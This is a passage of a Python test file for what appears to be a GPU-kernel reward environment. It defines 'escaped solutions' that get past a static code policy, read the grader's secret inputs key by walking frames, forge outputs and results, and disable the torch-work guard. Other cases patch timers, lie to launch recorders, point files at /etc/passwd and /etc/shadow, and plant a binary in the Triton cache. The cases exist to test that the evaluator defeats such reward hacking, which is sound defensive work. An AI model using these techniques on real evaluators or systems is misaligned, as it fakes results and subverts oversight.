"""Escaped solutions: the table of cases, what each tries, and why it must fail under the new boundary.

The model (issue 25, ../shared/THREATS.md class 21): the static policy is assumed passed, since a
fresh red team always finds a way (syntax rules, a line-table desync, then attribute chains). So a
solution's Python is arbitrary code inside the sandboxed solution process. Each case here is one
such solution: an honest, working kernel of a shipped task (the task's reference, its ``forward``
renamed ``_honest_forward``), then an escape that reaches ``exec`` past the policy through
``logging.getLogger.__globals__["__builtins__"]["exec"]`` and runs arbitrary Python (``PRELUDE``,
the helpers every case shares, then the case's ``payload``), then the case's own ``forward``.
A 0 is then the escape failing, never the kernel: tests/test_escapes.py checks that each task's
honest kernel, wrapped the same way without the escape, is paid.

What each case must come to (``must``):

- ``ZERO``: reward 0. Such a case returns outputs that no kernel of its text wrote (torch, numpy,
  a forged file, a kernel compiled from other text), so its 0 does not depend on whether the
  escape reaches its target; or it dies; or its launches are ones a trusted replay must refuse: a
  pointer outside every buffer of the call, or launches that depend on anything but shapes,
  dtypes, strides and device (issue 25's contract: "fails with a message saying which launch
  differed").
- ``NO_GAIN``: the honest kernel does the work, and the escape can only change nothing: the reward
  is never more than the honest kernel's (on the GPU, within its measured spread); 0 is allowed.
- ``ZERO_IF_REACHED``: a lie told to whatever records the launches. If it reached a recorder (the
  payload prints ``ESCAPE-REACHED lied:`` with what it lied about, and to what, only when a harness
  wrapper other than today's launch counter heard it, or a file the harness left was rewritten),
  the reward is 0; if nothing was there to lie to (today), ``NO_GAIN``.

``honest_after``: the case runs on an evaluator of its own (its own Triton cache), and that
evaluator then evaluates the honest kernel: what the case left behind must not hurt it.

Every payload prints ``ESCAPE-REACHED <what>`` when it gets to what it aims at (the harness's run
object, its channel, its timers, the Triton cache), so that a result says whether the escape
fired; the secret inputs key itself is never printed.

Why each must fail under the new boundary (the solution process only *records* its launches on
recording inputs; a ``replay`` worker that never imports the solution rebuilds the kernels from
the policy-checked text, replays the launches on the secret check inputs and does all timing):

1. ``exec`` past the policy: arbitrary Python can compute the outputs on the host (numpy sees the
   tensors' memory and runs no torch operator, so the torch-work guard sees nothing). Only
   launches are replayed, so host-computed outputs never reach the check.
2. Pausing, removing or deafening the torch-work guard and computing the outputs with torch: the
   guard lives in the solution's process, so any of it works today. Torch work is no launch, so
   the replay never does it.
3. Walking frames (``sys._getframe``, a generator's frame, a traceback's frames, ``gc``) to the
   harness's run object: the inputs key, the held-out shapes, the baseline and the outputs
   directory are all in that process today, so the escape writes the expected outputs where the
   check reads them. Under the boundary the key never enters the solution process and the check
   reads the replay's outputs.
4. The result channel: wrapped (speedup 100 on an honest kernel) or written directly (a whole
   forged result after writing the expected outputs, then exiting). The solution process's
   claims are no longer believed: correctness comes from the check of replayed outputs, times from
   the replay.
5. Forging timings: the timing module's functions, CUDA events, ``time``, and a slowed baseline
   (its module is in the solution process; the fingerprint covers the timing code, not the
   baseline), each restored before the harness looks. No timing happens in the solution process
   under the boundary.
6. Killing the worker in each phase (load, check, a late call) after planting forged outputs or a
   forged result, with ``os._exit(0)``, SIGKILL, a segmentation fault, or by closing the channel: a
   worker that does not finish its record is not paid, whatever it left.
7. Hidden state the module walk cannot see (a tensor on a ``logging.Logger``, in a generator
   nested in a generator, a cache keyed by content in a harness module's dict): stale outputs on
   later calls, work on the first call only. Replayed kernels carry no host state.
8. Against the new design: a kernel compiled at run time from text that is not in the source; a
   launch with a pointer outside every buffer of the call (a buffer kept from an earlier call, a
   view reaching into the guard band before an input); a scalar argument that changes between
   calls; launches that depend on input values; a recording that lies (``recorder_told_*``: a
   function slipped into the closure cells under every harness wrapper of Triton's launch entry
   points, and a wrapper over a harness hook on ``CompiledKernel.launch_metadata``, so that the
   harness hears a huge grid, a kernel name not in the source, a pointer outside every buffer or
   a scalar that changes with every call, while Triton's own launch gets the truth and the
   outputs stay right; and every JSON file the harness left in the outputs and scratch directories
   rewritten just before its result goes out: paths outside, huge grids); group files in the
   Triton cache pointed at paths outside it; and a planted binary under the honest kernel's cache
   key, which a later trusted compile would load.
   The trusted side must validate what it is told, replay only kernels of the checked text, never
   believe a recording it cannot reproduce, and never load what the solution wrote.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

from d2k_env.task import load_task

ZERO = "zero"
NO_GAIN = "no gain"
ZERO_IF_REACHED = "zero if reached"
REACHED = "ESCAPE-REACHED"
LIED = f"{REACHED} lied:"

# Run past the policy before any case's payload: the helpers every escape uses. Each tolerates a
# harness it cannot find (the run object may not exist under another design): it then does nothing.
PRELUDE = r'''
import contextlib
import fcntl
import gc
import json
import os
import sys

import torch
from torch.utils._python_dispatch import _disable_current_modes

_baseline = {}
exec(BASELINE_SOURCE, _baseline)
torch_forward = _baseline["forward"]  # the task's eager-torch computation, as a solution would write it


def reached(what):
    print(f"ESCAPE-REACHED {what}", flush=True)


def lied(what):
    """A lie heard by the harness (a ZERO_IF_REACHED case's target)."""
    reached(f"lied: {what}")


def _is_run(obj):
    return all(hasattr(obj, name) for name in ("req", "channel", "workloads"))


def _climb(frame):
    while frame is not None:
        if _is_run(frame.f_locals.get("self")):
            return frame.f_locals["self"]
        frame = frame.f_back
    return None


def _walker():
    me = yield
    yield me.gi_frame.f_back


def harness_run(route):
    """The harness's run object, reached by ``route``: getframe, generator, traceback or gc."""
    if route == "getframe":
        run = _climb(sys._getframe(1))
    elif route == "generator":
        walker = _walker()
        next(walker)
        run = _climb(walker.send(walker))
    elif route == "traceback":
        try:
            raise LookupError
        except LookupError as exc:
            run = _climb(exc.__traceback__.tb_frame)
    else:
        run = next((o for o in gc.get_objects()
                    if type(o).__module__.startswith("d2k_env") and _is_run(o)), None)
    if run is not None:
        reached(f"the harness's run object, through {route}")
    return run


def in_call_chain(name, depth=8):
    """Whether a function named ``name`` is among the callers (the harness's own, by name)."""
    frame = sys._getframe(1)
    for _ in range(depth):
        if frame is None:
            return False
        if frame.f_code.co_name == name:
            return True
        frame = frame.f_back
    return False


def late_call():
    """forward called by the harness after its timed calls (no timed call in the chain)."""
    return in_call_chain("time") and not in_call_chain("timed_forward")


@contextlib.contextmanager
def unguarded():
    """No torch dispatch mode (the harness's torch-work guard among them) while it runs."""
    with _disable_current_modes():
        yield


def expected_outputs(run):
    """Every workload's expected outputs, held-out shapes too, from the harness's inputs key and baseline."""
    from d2k_env.evaluator.checking import as_tuple
    with unguarded():
        return {w.name: as_tuple(run.baseline.forward(*run.inputs(w, "check"))) for w in run.workloads}


def forge_outputs(route):
    """Write every workload's expected outputs where the check reads them; send the harness's own
    save of forward's outputs elsewhere. Returns the run object (None: not found)."""
    run = harness_run(route)
    if run is None:
        return None
    from d2k_env.evaluator.worker import outputs_file, portable
    held = sum(bool(getattr(w, "heldout", False)) for w in run.workloads)
    reached(f"read the inputs key, {held} held-out shapes and the outputs directory")
    with unguarded():
        for name, outs in expected_outputs(run).items():
            torch.save(portable(outs), outputs_file(run.req, name, "check"))
    elsewhere = os.path.join(os.getcwd(), "elsewhere")
    os.makedirs(elsewhere, exist_ok=True)
    run.req.outputs_dir = elsewhere
    reached("wrote the expected outputs of every workload into the outputs directory")
    return run


def forged_result(run, speedup=100.0):
    """The harness's result as it would send it, every workload correct and `speedup` times faster."""
    from d2k_env.evaluator.protocol import EvalResult, WorkloadResult
    rows = []
    for w in run.workloads:
        timing = {} if getattr(w, "heldout", False) else dict(
            speedup=speedup, speedup_ci=(0.99 * speedup, 1.01 * speedup), solution_ms=0.01,
            baseline_ms=0.01 * speedup, repetitions=100)
        rows.append(WorkloadResult(w.name, True, "ran; outputs saved for the checker", **timing))
    result = EvalResult(run.req.mode, run.result.backend, rows, timed=True, device_name=run.result.device_name,
                        versions=run.result.versions, ceilings=run.result.ceilings)
    return result.to_dict()


def channel_fds():
    """Every pipe this process may write to, past stdout and stderr: the harness's channel among them."""
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
                fds.append(fd)
        except OSError:
            pass
    return fds


def send_result(result):
    """Write ``result`` as the harness's result line on every writable pipe; returns those pipes."""
    line = (json.dumps({"result": result}) + "\n").encode()
    fds = channel_fds()
    for fd in fds:
        try:
            os.write(fd, line)
        except OSError:
            pass
    reached(f"wrote a forged result on {len(fds)} pipe(s)")
    return fds


def triton_cache_files(suffix):
    """Files of this process's Triton cache ending in ``suffix`` (Triton's <cache>/<key>/<file> layout)."""
    root = os.environ.get("TRITON_CACHE_DIR") or os.path.expanduser("~/.triton/cache")
    found = []
    for entry in os.scandir(root) if os.path.isdir(root) else ():
        if entry.is_dir(follow_symlinks=False):
            found += [f.path for f in os.scandir(entry.path) if f.name.endswith(suffix)]
    return found
'''


@dataclass(frozen=True)
class Case:
    """One escaped solution. ``payload`` runs through the escaped ``exec`` at import, after ``PRELUDE``,
    in the namespace ``_ESC`` that ``forward`` reads; ``kernels`` are extra ``@triton.jit`` kernels of
    the solution's own text (checked by the policy, in the replay's view)."""

    name: str
    task: str
    must: str
    tries: str
    forward: str
    payload: str = ""
    kernels: str = ""
    honest_after: bool = False

    def source(self) -> str:
        return solution_source(self.task, self)


def _reference(task_id: str) -> str:
    """The task's reference with its ``forward`` renamed ``_honest_forward``: the honest kernel."""
    text = load_task(task_id).reference_path.read_text()
    renamed, count = re.subn(r"^def forward\(", "def _honest_forward(", text, flags=re.MULTILINE)
    assert count == 1, f"{task_id}'s reference must define forward exactly once"
    return renamed


def honest_source(task_id: str) -> str:
    """The honest kernel every case of ``task_id`` wraps, wrapped the same way, without any escape."""
    return _reference(task_id) + "\n\ndef forward(*inputs):\n    return _honest_forward(*inputs)\n"


IDLE = '''
@triton.jit
def _idle(p):
    pass
'''


def solution_source(task_id: str, case: Case) -> str:
    baseline = Path(load_task(task_id).baseline_path).read_text()
    return "\n".join([
        _reference(task_id),
        f"\n# ---- an escaped solution: tests/escapes/cases.py, case {case.name} ----",
        "# The static policy is assumed passed: from here on, arbitrary Python in the solution process.",
        "import logging as _logging",
        "",
        '_exec = _logging.getLogger.__globals__["__builtins__"]["exec"]',
        f"_ESC = {{'BASELINE_SOURCE': {baseline!r}}}",
        f"_exec({PRELUDE!r}, _ESC)",
        f"_exec({case.payload!r}, _ESC)" if case.payload else "",
        IDLE,
        case.kernels,
        case.forward,
    ])


# -- the cases -------------------------------------------------------------------------------------

_GARBAGE = "tuple(torch.empty_like(o) for o in outs)"  # outputs no kernel wrote

_NUMPY_RMSNORM = r'''
import numpy as np


def _bf16(t):
    return (t.view(torch.int16).numpy().astype(np.uint16).astype(np.uint32) << 16).view(np.float32)


def _store_bf16(values, out):
    bits = np.ascontiguousarray(values, dtype=np.float32).view(np.uint32)
    rounded = ((bits + 0x7FFF + ((bits >> 16) & 1)) >> 16).astype(np.uint16)
    out.view(torch.int16).numpy()[...] = rounded.view(np.int16).reshape(out.shape)


def numpy_rmsnorm(x, residual, weight, y, residual_out):
    s = _bf16(x) + _bf16(residual)
    rstd = 1.0 / np.sqrt((s * s).mean(axis=-1, keepdims=True) + np.float32(1e-6))
    _store_bf16(s * rstd * _bf16(weight), y)
    _store_bf16(s, residual_out)
    reached("computed the outputs with numpy on the host: no torch operator ran")
'''

_PAUSE_GUARD = '''
def pause_guard():
    run = harness_run("getframe")
    if run is not None:
        run.guard.paused += 10**6
        reached("paused the torch-work guard for good")
'''

_DEAFEN_GUARD = '''
class _Deaf(list):
    def append(self, item):
        pass


def deafen_guard():
    run = harness_run("generator")
    if run is not None:
        run.guard.forbidden = _Deaf()
        reached("replaced the torch-work guard's record with one that keeps nothing")
'''

_ONCE = "_ONCE = []\n"

_FORGE_FORWARD = _ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["forge_outputs"]("{route}")
    outs = _honest_forward(*inputs)  # the honest kernel runs; its outputs are thrown away
    return {garbage}
'''

_WRAP_CHANNEL = '''
def wrap_channel():
    run = harness_run("getframe")
    if run is None:
        return
    send = run.channel.result

    def forged(result):
        result["timed"] = True
        for w in result["workloads"]:
            w.update(speedup=100.0, speedup_ci=[99.0, 101.0])
            if w.get("solution_ms"):
                w["solution_ms"] /= 100
        return send(result)

    run.channel.result = forged
    reached("wrapped the harness's result channel: speedup 100 on every workload")
'''

_FORGE_AND_EXIT = '''
def forge_and_exit():
    run = forge_outputs("gc")
    if run is not None:
        send_result(forged_result(run))
        os._exit(0)
'''

_FORGE_AND_SIGKILL = '''
import signal


def forge_and_kill():
    if forge_outputs("traceback") is not None:
        os.kill(os.getpid(), signal.SIGKILL)
        reached("survived its own SIGKILL")
'''

_FORGE_AND_CLOSE = '''
def forge_and_close():
    run = forge_outputs("getframe")
    if run is not None:
        for fd in send_result(forged_result(run)):
            os.close(fd)
        reached("closed the channel after the forged result")
'''

_EXIT_AT_IMPORT = '''
_run = forge_outputs("getframe")
if _run is not None:
    send_result(forged_result(_run))
    os._exit(0)
'''

_CRASH_LATE = '''
import ctypes


def crash_when_late(calls):
    if in_call_chain("timed_forward") or calls >= 4:
        reached("crashed itself (a real segmentation fault) in a late or timed call")
        ctypes.string_at(0)
'''

_PATCH_TIMING = '''
import d2k_env.evaluator.timing as _timing

_stock_batch = _timing.time_batch


def _forged_batch(calls, flush):
    times = _stock_batch(calls, flush)
    if "timed_forward" not in getattr(calls[0][0], "__qualname__", ""):
        times = [t * 100 for t in times]  # the baseline's samples
    return times


_timing.time_batch = _forged_batch
reached("patched the timing module's time_batch: the baseline's samples 100 times longer")


def before_call():
    if late_call() and _timing.time_batch is _forged_batch:
        _timing.time_batch = _stock_batch
        reached("restored time_batch before the harness's fingerprint")
'''

_PATCH_EVENTS = '''
_side = {"baseline": False}
_stock_elapsed = torch.cuda.Event.elapsed_time
_baseline_module = sys.modules.get("d2k_baseline")
_stock_baseline = getattr(_baseline_module, "forward", None)


def _elapsed(self, end):
    ms = _stock_elapsed(self, end)
    return ms * 100 if _side["baseline"] else ms


def _marked_baseline(*args):
    _side["baseline"] = True
    return _stock_baseline(*args)


torch.cuda.Event.elapsed_time = _elapsed
if _stock_baseline is not None:
    _baseline_module.forward = _marked_baseline
    reached("patched CUDA events and marked the baseline's calls")


def before_call():
    _side["baseline"] = False
    if late_call() and torch.cuda.Event.elapsed_time is _elapsed:
        torch.cuda.Event.elapsed_time = _stock_elapsed
        if _stock_baseline is not None:
            _baseline_module.forward = _stock_baseline
        reached("restored the events and the baseline before the harness's fingerprint")
'''

_SLOW_BASELINE = '''
import time

_module = sys.modules.get("d2k_baseline")
if _module is not None:
    _stock = _module.forward

    def _slowed(*args):
        if args and getattr(args[0], "is_cuda", False):
            torch.cuda._sleep(2_000_000)  # about 1 ms of GPU spin before each baseline call
        else:
            time.sleep(0.002)
        return _stock(*args)

    _module.forward = _slowed
    reached("slowed the baseline's forward")
'''

_PATCH_TIME = '''
import time

_stock = {name: getattr(time, name) for name in ("perf_counter", "monotonic", "time")}
_start = {name: fn() for name, fn in _stock.items()}


def _fast(name):
    return lambda: _start[name] + (_stock[name]() - _start[name]) * 1000


for _name in _stock:
    setattr(time, _name, _fast(_name))
reached("patched time.perf_counter, time.monotonic and time.time to run 1000 times fast")


def before_call():
    if late_call() and time.perf_counter is not _stock["perf_counter"]:
        for name, fn in _stock.items():
            setattr(time, name, fn)
        reached("restored the time functions before the harness's fingerprint")
'''

_CONTENT_KEY = '''
def content_key(inputs):
    """Shape, address and a sample of values of every input, read past the guard."""
    with unguarded():
        return tuple((tuple(x.shape), x.data_ptr(), tuple(x.flatten()[:: max(1, x.numel() // 16)].float().tolist()))
                     for x in inputs)


def cache():
    """The outputs cache, in a harness module's dict: out of reach of a walk from the solution's module."""
    return sys.modules["d2k_env"].__dict__.setdefault("_escape_outputs", {})
'''

_NESTED_KEEPER = '''
def _keeper():
    cache = {}
    request = yield
    while True:
        key, make = request
        hit = key in cache
        if not hit:
            cache[key] = make()
        request = yield hit, cache[key]


def _nest():
    inner = _keeper()
    next(inner)
    request = yield
    while True:
        request = yield inner.send(request)


KEEP = _nest()
next(KEEP)
'''

_SHADOW = r'''
import linecache
import triton

SHADOW = """
import triton
import triton.language as tl


@triton.jit
def _shadow_rmsnorm(x_ptr, r_ptr, w_ptr, y_ptr, ro_ptr, N, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64) * N
    cols = tl.arange(0, BLOCK)
    mask = cols < N
    s = tl.load(x_ptr + row + cols, mask=mask, other=0.0).to(tl.float32) + \\
        tl.load(r_ptr + row + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.rsqrt(tl.sum(s * s, axis=0) / N + eps)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    tl.store(y_ptr + row + cols, (s * rstd * w).to(y_ptr.dtype.element_ty), mask=mask)
    tl.store(ro_ptr + row + cols, s.to(ro_ptr.dtype.element_ty), mask=mask)
"""
_NAME = "<shadow kernels>"
linecache.cache[_NAME] = (len(SHADOW), None, SHADOW.splitlines(True), _NAME)
_shadow = {}
exec(compile(SHADOW, _NAME, "exec"), _shadow)
shadow_rmsnorm = _shadow["_shadow_rmsnorm"]


def launch_shadow(x, residual, weight, y, residual_out):
    M, N = x.shape
    shadow_rmsnorm[(M,)](x, residual, weight, y, residual_out, N, 1e-6, BLOCK=triton.next_power_of_2(N))
    reached("launched a kernel compiled from text that is not in the source")
'''

_COPY_KERNEL = '''
@triton.jit
def _copy_into(src, dst, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(dst + offs, tl.load(src + offs, mask=offs < n), mask=offs < n)
'''

_TICK_KERNEL = '''
@triton.jit
def _tick(p, stamp, BLOCK: tl.constexpr):
    # Zeroes the first `stamp` elements: nothing on a shape's first call (stamp 0), then more each call.
    offs = tl.arange(0, BLOCK)
    tl.store(p + offs, tl.zeros([BLOCK], dtype=p.dtype.element_ty), mask=offs < stamp)
'''

_LIAR = '''
import functools

from triton.runtime import interpreter as _interpreter, jit as _jit

_truths = []  # while a lie is told: what Triton's own launch must get instead
RECORDERS = []  # the harness's wrappers that hear the lie, today's launch counter aside


def _real_launch(original):
    @functools.wraps(original)
    def launch(*args, **kwargs):
        if _truths:
            args, kwargs = _truths[-1](args, kwargs)
        return original(*args, **kwargs)
    return launch


def _reroute(wrapper, seen=()):
    # Under the harness's wrappers of a launch entry point (closures over the function they wrap), put
    # a function that gives Triton's own launch the truth: every wrapper above it hears the lie.
    for cell in getattr(wrapper, "__closure__", None) or ():
        inner = cell.cell_contents
        module = getattr(inner, "__module__", "") or ""
        if not callable(inner) or inner in seen:
            continue
        if module.startswith("triton"):
            cell.cell_contents = _real_launch(inner)
            return True
        if module.startswith("d2k_env") and _reroute(inner, seen + (inner,)):
            if "LaunchGuard" not in inner.__qualname__:
                RECORDERS.append(inner.__qualname__)
            return True
    return False


for _owner in (_jit.JITFunction, _interpreter.InterpretedFunction):
    _wrapper = _owner.run
    if (getattr(_wrapper, "__module__", "") or "").startswith("d2k_env") and _reroute(_wrapper):
        if "LaunchGuard" not in _wrapper.__qualname__:
            RECORDERS.append(_wrapper.__qualname__)

_metadata_lie = []  # on the GPU: what the harness's launch_metadata hook is told, (kernel, grid, args) -> (grid, args)
try:
    from triton.compiler.compiler import CompiledKernel
    _hooked = CompiledKernel.launch_metadata
    if (getattr(_hooked, "__module__", "") or "").startswith("d2k_env"):
        RECORDERS.append(_hooked.__qualname__)

        def _lying_metadata(self, grid, stream, *args):
            if _metadata_lie:
                grid, args = _metadata_lie[-1](self, grid, args)
            return _hooked(self, grid, stream, *args)

        CompiledKernel.launch_metadata = _lying_metadata
except ImportError:
    pass


@contextlib.contextmanager
def lying(what, truth, metadata):
    # Launches inside tell the harness's wrappers a lie: truth(args, kwargs) is what Triton's own launch
    # gets (args[0] the kernel), metadata(kernel, grid, args) what a launch_metadata hook hears.
    _truths.append(truth)
    _metadata_lie.append(metadata)
    try:
        yield
    finally:
        _truths.pop()
        _metadata_lie.pop()
    if RECORDERS:
        lied(f"told {what} to {', '.join(sorted(set(RECORDERS)))}")
'''

# The reference's launch, as its forward makes it: the lies below are told about this one.
_RMSNORM_LAUNCH = '''
def _launch(x, residual, weight, grid, eps=EPS):
    M, N = x.shape
    y, residual_out = torch.empty_like(x), torch.empty_like(x)
    chunk = min(CHUNK, triton.next_power_of_2(N))
    num_warps = max(1, min(MAX_WARPS, chunk // ELEMS_PER_WARP))
    _rmsnorm_two_pass[grid](x, residual, weight, y, residual_out, eps, N=N, CHUNK=chunk, num_warps=num_warps)
    return y, residual_out
'''

_REWRITE_RECORDING = '''
_OUTSIDE = "../../../../../../etc/passwd"


def _lie(value, key=""):
    if isinstance(value, dict):
        return {k: _lie(v, k) for k, v in value.items()}
    if isinstance(value, list):
        if key == "grid":
            return [2**31 - 1, 65535, 65535]
        return [_lie(v) for v in value]
    if isinstance(value, str) and ("/" in value or value.rsplit(".", 1)[-1] in ("cubin", "json", "ptx", "so", "pt")):
        return "/etc/passwd" if value.startswith("/") else _OUTSIDE
    return value


def rewrite_recording(roots):
    # Every JSON file the worker can write (but the Triton cache, cache_paths_outside's), at most 3
    # levels and 200 files deep: its paths pointed outside, its grids made huge, a link planted beside.
    rewritten = 0
    for root in roots:
        for top, dirs, files in os.walk(root):
            if top[len(root):].count(os.sep) >= 3:
                dirs[:] = []
            for name in files:
                path = os.path.join(top, name)
                if not name.endswith(".json") or os.path.islink(path) or rewritten >= 200:
                    continue
                try:
                    with open(path) as f:
                        data = json.load(f)
                    with open(path, "w") as f:
                        json.dump(_lie(data), f)
                except (OSError, ValueError):
                    continue
                with contextlib.suppress(OSError):
                    os.symlink("/etc/shadow", os.path.join(top, "planted-" + name))
                rewritten += 1
    return rewritten


def rewrite_before_result():
    run = harness_run("getframe")
    if run is None:
        return
    send = run.channel.result
    roots = [run.req.outputs_dir, os.getcwd()]

    def rewritten_then_sent(result):
        if count := rewrite_recording(roots):
            lied(f"rewrote {count} JSON file(s) the harness left before its result: paths outside, huge grids")
        return send(result)

    run.channel.result = rewritten_then_sent
'''

_REPOINT_CACHE = '''
def repoint_cache():
    """Point every group file of the Triton cache at files outside it, and plant links beside them."""
    changed = 0
    for path in triton_cache_files(".json"):
        if not os.path.basename(path).startswith("__grp__"):
            continue
        with open(path) as f:
            group = json.load(f)
        paths = group.get("child_paths", {})
        for name in paths:
            paths[name] = "/etc/passwd" if name.endswith(".json") else "/proc/self/environ"
        with open(path, "w") as f:
            json.dump(group, f)
        with contextlib.suppress(OSError):  # one link per entry
            os.symlink("/etc/shadow", os.path.join(os.path.dirname(path), "planted.cubin"))
        changed += 1
    if changed:
        reached(f"pointed {changed} Triton cache group file(s) outside the cache")
'''

_PLANT = r'''
import linecache
import shutil

TROJAN = """
import triton
import triton.language as tl


@triton.jit
def _rmsnorm_two_pass(x_ptr, res_ptr, w_ptr, y_ptr, res_out_ptr, eps, N: tl.constexpr, CHUNK: tl.constexpr):
    pass
"""
_NAME = "<planted kernels>"


def plant(x, residual, weight, y, residual_out, eps, N, CHUNK, num_warps):
    """Compile a kernel of the honest one's name and signature that writes nothing, and copy its binary
    over the honest kernel's in the Triton cache: a later compile of the honest text would load it."""
    honest = [p for p in triton_cache_files(".cubin") if os.path.basename(p) == "_rmsnorm_two_pass.cubin"]
    if not honest:
        return
    linecache.cache[_NAME] = (len(TROJAN), None, TROJAN.splitlines(True), _NAME)
    scope = {}
    exec(compile(TROJAN, _NAME, "exec"), scope)
    scope["_rmsnorm_two_pass"][(1,)](x, residual, weight, y, residual_out, eps, N=N, CHUNK=CHUNK,
                                     num_warps=num_warps)
    torch.cuda.synchronize()
    trojans = [p for p in triton_cache_files(".cubin") if os.path.basename(p) == "_rmsnorm_two_pass.cubin"
               and p not in honest]
    if trojans:
        for path in honest:
            shutil.copyfile(trojans[0], path)
        reached(f"planted a binary that writes nothing under {len(honest)} honest cache entr(ies)")
'''

CASES: list[Case] = [
    # 1. exec past the policy.
    Case("exec_numpy_host_compute", "fused_add_rmsnorm", ZERO,
         "exec reached through logging.getLogger.__globals__; the outputs computed with numpy on the host "
         "(no torch operator runs, so the torch-work guard sees nothing); the honest kernel runs into "
         "buffers nobody returns",
         payload=_NUMPY_RMSNORM, forward='''
def forward(x, residual, weight):
    _honest_forward(x, residual, weight)
    y, residual_out = torch.empty_like(x), torch.empty_like(x)
    _ESC["numpy_rmsnorm"](x, residual, weight, y, residual_out)
    return y, residual_out
'''),
    # 2. The torch-work guard paused, removed or deafened; the outputs computed with torch.
    Case("guard_paused_torch_outputs", "fused_add_rmsnorm", ZERO,
         "sys._getframe to the harness's run object; its torch-work guard paused for good; the outputs "
         "computed with eager torch",
         payload=_PAUSE_GUARD, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["pause_guard"]()
    _honest_forward(*inputs)
    return _ESC["torch_forward"](*inputs)
'''),
    Case("guard_removed_torch_outputs", "per_token_group_quant_fp8", ZERO,
         "every torch dispatch mode (the guard among them) taken off the stack around eager-torch outputs; "
         "no frame walk needed",
         payload='', forward='''
def forward(*inputs):
    _honest_forward(*inputs)
    with _ESC["unguarded"]():
        print("ESCAPE-REACHED computed the outputs with the dispatch modes off", flush=True)
        return _ESC["torch_forward"](*inputs)
'''),
    Case("guard_deafened_torch_outputs", "merge_attn_states", ZERO,
         "a generator's frame to the harness's run object; the guard's record replaced by a list that keeps "
         "nothing; eager-torch outputs",
         payload=_DEAFEN_GUARD, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["deafen_guard"]()
    _honest_forward(*inputs)
    return _ESC["torch_forward"](*inputs)
'''),
    # 3. Frames to the harness's run object and request: the expected outputs written where the check reads.
    Case("frames_getframe_write_outputs", "fused_add_rmsnorm", ZERO,
         "sys._getframe to the run object: the inputs key, held-out shapes, baseline and outputs directory; "
         "every workload's expected outputs written there, the harness's own save sent elsewhere",
         forward=_FORGE_FORWARD.format(route="getframe", garbage=_GARBAGE)),
    Case("frames_generator_write_outputs", "merge_attn_states", ZERO,
         "as frames_getframe_write_outputs, through a running generator's gi_frame.f_back",
         forward=_FORGE_FORWARD.format(route="generator", garbage=_GARBAGE)),
    Case("frames_traceback_write_outputs", "per_token_group_quant_fp8", ZERO,
         "as frames_getframe_write_outputs, through a caught exception's traceback frames",
         forward=_FORGE_FORWARD.format(route="traceback", garbage=_GARBAGE)),
    Case("frames_gc_write_outputs", "fused_add_rmsnorm", ZERO,
         "as frames_getframe_write_outputs, finding the run object among gc.get_objects()",
         forward=_FORGE_FORWARD.format(route="gc", garbage=_GARBAGE)),
    # 4. The result channel.
    Case("channel_wrapped_speedup", "fused_add_rmsnorm", NO_GAIN,
         "the honest kernel does the work; the harness's channel.result wrapped so that every workload "
         "goes out timed, 100 times faster",
         payload=_WRAP_CHANNEL, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["wrap_channel"]()
    return _honest_forward(*inputs)
'''),
    Case("channel_forged_result_exit", "per_token_group_quant_fp8", ZERO,
         "gc to the run object; the expected outputs written; a whole forged result (every workload correct, "
         "speedup 100) written on every writable pipe found in /proc/self/fd, the channel among them; "
         "then os._exit(0)",
         payload=_FORGE_AND_EXIT, forward='''
def forward(*inputs):
    _ESC["forge_and_exit"]()
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    # 5. Forged timings, each restored before the harness's fingerprint (the honest kernel does the work).
    Case("timing_module_patched", "fused_add_rmsnorm", NO_GAIN,
         "the timing module's time_batch patched to stretch the baseline's samples 100 times, restored at "
         "the call after the timed ones, before the harness compares its fingerprint",
         payload=_PATCH_TIMING, forward='''
def forward(*inputs):
    _ESC["before_call"]()
    return _honest_forward(*inputs)
'''),
    Case("cuda_events_patched", "merge_attn_states", NO_GAIN,
         "torch.cuda.Event.elapsed_time patched to stretch whatever ran after the baseline's forward (marked "
         "by wrapping it), both restored after the timed calls",
         payload=_PATCH_EVENTS, forward='''
def forward(*inputs):
    _ESC["before_call"]()
    return _honest_forward(*inputs)
'''),
    Case("baseline_slowed", "per_token_group_quant_fp8", NO_GAIN,
         "the baseline's module (loaded in the solution process) gets a forward that spins the GPU (sleeps "
         "on the CPU) before each call: its measured time grows, the speedup with it",
         payload=_SLOW_BASELINE, forward='''
def forward(*inputs):
    return _honest_forward(*inputs)
'''),
    Case("time_functions_patched", "fused_add_rmsnorm", NO_GAIN,
         "time.perf_counter, time.monotonic and time.time patched to run 1000 times fast (the timing "
         "budget ends at once), restored after the timed calls",
         payload=_PATCH_TIME, forward='''
def forward(*inputs):
    _ESC["before_call"]()
    return _honest_forward(*inputs)
'''),
    # 6. Killing the worker in each phase, after planting forged outputs or a forged result.
    Case("exit_after_forged_outputs", "fused_add_rmsnorm", ZERO,
         "in the check phase: the expected outputs written (frames), then os._exit(0)",
         forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        if _ESC["forge_outputs"]("getframe") is not None:
            _ESC["os"]._exit(0)
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    Case("sigkill_after_forged_outputs", "merge_attn_states", ZERO,
         "in the check phase: the expected outputs written (traceback frames), then SIGKILL to itself (where "
         "the worker is the init of its own PID namespace, the kernel drops a signal it sends itself: forward "
         "goes on and returns garbage)",
         payload=_FORGE_AND_SIGKILL, forward=_ONCE + '''
def forward(*inputs):
    if not _ONCE:
        _ONCE.append(1)
        _ESC["forge_and_kill"]()
    outs = _honest_forward(*inputs)
    return ''' + _GARBAGE + "\n"),
    Case("channel_closed_after_forged_result", "per_token_group_quant_fp8", ZERO,
